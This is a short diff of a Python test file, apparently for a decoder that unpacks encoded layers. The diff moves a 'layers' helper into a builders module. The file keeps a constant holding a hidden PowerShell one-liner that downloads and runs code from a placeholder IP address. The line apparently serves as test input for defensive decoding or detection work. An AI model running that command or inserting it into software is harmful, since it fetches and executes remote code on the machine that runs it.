@@ -13,17 +13,9 @@ import random
 
 import pytest
 
-from asisdk.decode import unpack
-
-from .test_finds import check_offsets
+from .builders import layers
 
 COMMAND = "powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a -UseB)"
-
-
-def layers(text: str) -> list[tuple[str, str | None]]:
-    result = unpack(text)
-    check_offsets(text, result)
-    return [(layer.encoding, layer.text) for layer in result.layers]
 
 
 def _name(rng: random.Random) -> str:
